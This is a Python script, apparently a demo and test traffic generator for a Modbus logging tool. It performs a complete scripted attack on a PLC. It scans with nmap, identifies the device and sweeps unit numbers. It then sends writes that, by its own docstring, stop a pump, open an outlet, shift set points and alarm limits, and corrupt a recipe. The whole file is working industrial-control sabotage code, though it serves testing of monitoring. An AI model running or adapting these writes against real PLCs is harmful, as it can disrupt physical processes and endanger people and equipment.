#!/usr/bin/python3
"""A scripted attack on a Modbus PLC, for the demo and the tests; it tells exactly what it did.

Scan (nmap), device identification, server id, a sweep of unit numbers, reads of coils, inputs and
registers, an illegal address, then writes: coil, register, coils, registers. Each request of the
Modbus part is a step of the JSON output with the field names of a Tapiary transaction: operation,
code, unit, address, quantity, values, status, exception, time. Values of a read are the answer's.

  attack.py TARGET [--port 502] [--unit 1] [--output attack.json] [--no-scan]

Only for systems that are yours. Needs python3-pymodbus 3.0.0, and nmap for the scan.
"""
import argparse
import json
import re
import shutil
import subprocess
import sys
from datetime import datetime, timezone

from pymodbus.bit_read_message import ReadCoilsRequest, ReadDiscreteInputsRequest
from pymodbus.bit_write_message import WriteMultipleCoilsRequest, WriteSingleCoilRequest
from pymodbus.client import ModbusTcpClient
from pymodbus.mei_message import ReadDeviceInformationRequest
from pymodbus.other_message import ReportSlaveIdRequest
from pymodbus.pdu import ExceptionResponse
from pymodbus.register_read_message import ReadHoldingRegistersRequest, ReadInputRegistersRequest
from pymodbus.register_write_message import WriteMultipleRegistersRequest, WriteSingleRegisterRequest

SCANNED_PORTS = "22,80,102,502,44818"


def now():
    return datetime.now(timezone.utc).isoformat(timespec="microseconds").replace("+00:00", "Z")


def run_nmap(target, arguments):
    command = ["nmap", "-sT", "-Pn", "-n", "-oG", "-", *arguments, target]
    result = {"time": now(), "command": command, "ports": {}}
    if shutil.which("nmap") is None:
        result["error"] = "nmap is not installed"
        return result
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=120, check=False)
    for port, state in re.findall(r"(\d+)/([a-z|]+)/tcp", done.stdout):
        result["ports"][port] = state
    if done.returncode != 0:
        result["error"] = done.stderr.strip()[:500]
    return result


class Attacker:
    def __init__(self, target, port, unit):
        # One attempt only: a silent second request would not be in the report.
        self.client = ModbusTcpClient(target, port=port, timeout=2, retries=1, retry_on_empty=False)
        self.unit = unit
        self.steps = []

    def do(self, operation, request, **fields):
        """Sends one request and notes it with its outcome."""
        unit = fields.pop("unit", self.unit)
        request.unit_id = unit
        step = {"time": now(), "operation": operation, "code": request.function_code, "unit": unit, **fields}
        response = self.client.execute(request)
        if isinstance(response, ExceptionResponse):
            step.update(status="exception", exception=response.exception_code)
        elif response.isError():
            step.update(status="no-reply", error=str(response))
            self.client.close()
            self.client.connect()
        else:
            step["status"] = "ok"
        self.steps.append(step)
        print(f"{step['time']} {operation} unit {unit} {fields or ''} -> {step['status']}", file=sys.stderr)
        return None if step["status"] != "ok" else response

    def identify(self):
        response = self.do("read_device_identification", ReadDeviceInformationRequest(1, 0))
        if response is not None:
            self.steps[-1]["answer"] = {str(k): v.decode("ascii", "replace") for k, v in response.information.items()}
        response = self.do("report_server_id", ReportSlaveIdRequest())
        if response is not None:
            self.steps[-1]["answer"] = response.identifier.decode("ascii", "replace")

    def sweep_units(self, units):
        for unit in units:
            request = ReadHoldingRegistersRequest(0, 1)
            self.note_registers(self.do("read_holding_registers", request, unit=unit, address=0, quantity=1))

    def note_registers(self, response):
        if response is not None:
            self.steps[-1]["values"] = list(response.registers)

    def note_bits(self, response):
        if response is not None:
            self.steps[-1]["values"] = [int(bit) for bit in response.bits[: self.steps[-1]["quantity"]]]

    def read_all(self):
        bits = (("read_coils", ReadCoilsRequest), ("read_discrete_inputs", ReadDiscreteInputsRequest))
        for operation, request in bits:
            self.note_bits(self.do(operation, request(0, 8), address=0, quantity=8))
        self.note_registers(self.do("read_input_registers", ReadInputRegistersRequest(0, 4), address=0, quantity=4))
        self.note_registers(
            self.do("read_holding_registers", ReadHoldingRegistersRequest(0, 20), address=0, quantity=20)
        )
        # No such address: exception 2.
        self.do("read_holding_registers", ReadHoldingRegistersRequest(5000, 4), address=5000, quantity=4)

    def write_all(self):
        """Stops the pump, opens the outlet, moves set point and alarm limits, spoils the recipe."""
        self.do("write_single_coil", WriteSingleCoilRequest(0, False), address=0, quantity=1, values=[0])
        self.do("write_single_coil", WriteSingleCoilRequest(2, True), address=2, quantity=1, values=[1])
        self.do("write_single_register", WriteSingleRegisterRequest(0, 1999), address=0, quantity=1, values=[1999])
        coils = [1, 0, 1, 1, 0, 1, 0, 0, 1, 1]
        self.do(
            "write_multiple_coils",
            WriteMultipleCoilsRequest(20, [bool(bit) for bit in coils]),
            address=20,
            quantity=len(coils),
            values=coils,
        )
        registers = [4660, 0, 65535, 513]
        self.do(
            "write_multiple_registers",
            WriteMultipleRegistersRequest(10, registers),
            address=10,
            quantity=len(registers),
            values=registers,
        )
        # A write that the PLC refuses is a command all the same.
        self.do("write_single_register", WriteSingleRegisterRequest(7000, 1), address=7000, quantity=1, values=[1])
        self.note_registers(
            self.do("read_holding_registers", ReadHoldingRegistersRequest(10, 4), address=10, quantity=4)
        )
        if self.steps[-1].get("values") != registers:
            raise SystemExit("attack: the registers do not hold what was written")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("target")
    parser.add_argument("--port", type=int, default=502)
    parser.add_argument("--unit", type=int, default=1)
    parser.add_argument("--output", help="JSON file; default: standard output")
    parser.add_argument("--no-scan", action="store_true", help="leave nmap out")
    options = parser.parse_args()

    report = {"target": options.target, "port": options.port, "unit": options.unit, "started": now(), "scans": []}
    if not options.no_scan:
        report["scans"].append(run_nmap(options.target, ["-p", SCANNED_PORTS]))
        discover = ["-p", str(options.port), "--script", "modbus-discover"]
        report["scans"].append(run_nmap(options.target, discover))

    attacker = Attacker(options.target, options.port, options.unit)
    if not attacker.client.connect():
        raise SystemExit(f"attack: {options.target} port {options.port} does not answer")
    attacker.identify()
    attacker.sweep_units(range(1, 4))
    attacker.read_all()
    attacker.write_all()
    attacker.client.close()

    report["ended"] = now()
    report["steps"] = attacker.steps
    text = json.dumps(report, indent=1) + "\n"
    if options.output:
        with open(options.output, "w", encoding="utf-8") as file:
            file.write(text)
    else:
        sys.stdout.write(text)


if __name__ == "__main__":
    main()
